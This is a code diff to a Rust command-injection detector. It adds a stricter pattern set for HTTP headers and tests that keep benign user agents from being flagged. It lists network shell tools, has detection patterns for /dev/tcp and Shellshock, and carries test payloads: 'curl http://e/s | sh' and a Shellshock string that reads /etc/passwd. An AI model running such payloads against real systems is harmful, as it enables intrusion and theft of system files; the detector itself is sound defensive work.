@@ -11,12 +11,31 @@ const UNIX_COMMANDS: &str = "cat|ls|id|whoami|uname|pwd|wget|curl|nc|ncat|netcat
 /// Windows commands that mean little else after a separator.
 const WINDOWS_COMMANDS: &str = r"cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|whoami|ipconfig|systeminfo|tasklist|net1?\s+(?:user|localgroup|group|view|share)|reg\s+(?:query|add|save)|schtasks|sc\s+(?:create|config|start)|nslookup|ping";
 
-static PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
-    let after_separator = format!(
+/// A separator and a command: in a parameter, any use of the command.
+fn after_separator() -> String {
+    format!(
         r"(?:[;|`\n\r]|&&|\|\||\$\(|(?:^|\s)&)\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:$|[\s;&|<>'`)]|\$\{{?ifs)"
-    );
+    )
+}
+
+/// A separator, a command and an argument (an option, a path, a URL, a variable): what
+/// a header needs to count, since user agents separate their tokens with `;` and
+/// name platforms like `Touch` or `U; id`.
+fn after_separator_with_argument() -> String {
+    format!(
+        r"(?:[;|`]|&&|\|\||\$\()\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})\s+(?:-|/|https?:|\$|\.\.|[a-z]:\\)"
+    )
+}
+
+static PARAMETER_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> =
+    LazyLock::new(|| patterns(&after_separator()));
+
+static HEADER_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> =
+    LazyLock::new(|| patterns(&after_separator_with_argument()));
+
+fn patterns(separator: &str) -> Vec<(Regex, &'static str)> {
     [
-        (after_separator.as_str(), "command after a shell separator"),
+        (separator, "command after a shell separator"),
         (r"\$\{?ifs\}?", "`$IFS` used as a space"),
         (r"\(\s*\)\s*\{[^}]*;\s*\}\s*;", "Shellshock function definition"),
         (r"/dev/(?:tcp|udp)/", "bash network redirection"),
@@ -38,10 +57,19 @@ static PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
     .into_iter()
     .map(|(p, why)| (Regex::new(&format!("(?i){p}")).expect("valid pattern"), why))
     .collect()
-});
+}
 
-/// Why `value` injects an OS command, if it does.
+/// Why `value`, a header, injects an OS command, if it does.
+pub fn command_injection_in_header(value: &str) -> Option<String> {
+    first_match(&HEADER_PATTERNS, value)
+}
+
+/// Why `value`, a parameter or path, injects an OS command, if it does.
 pub fn command_injection(value: &str) -> Option<String> {
+    first_match(&PARAMETER_PATTERNS, value)
+}
+
+fn first_match(patterns: &[(Regex, &'static str)], value: &str) -> Option<String> {
     if value.len() < 2
         || value.bytes().all(|b| {
             b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',' | b'@' | b' ')
@@ -49,7 +77,7 @@ pub fn command_injection(value: &str) -> Option<String> {
     {
         return None;
     }
-    PATTERNS
+    patterns
         .iter()
         .find(|(re, _)| re.is_match(value))
         .map(|(_, why)| (*why).to_string())
@@ -78,6 +106,19 @@ mod tests {
         ] {
             assert!(command_injection(p).is_some(), "missed {p}");
         }
+    }
+
+    #[test]
+    fn headers_need_a_command_with_an_argument() {
+        for agent in [
+            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
+            "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
+            "Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K)",
+        ] {
+            assert_eq!(command_injection_in_header(agent), None, "flagged {agent}");
+        }
+        assert!(command_injection_in_header("x; curl http://e/s | sh").is_some());
+        assert!(command_injection_in_header("() { :; }; /bin/cat /etc/passwd").is_some());
     }
 
     #[test]
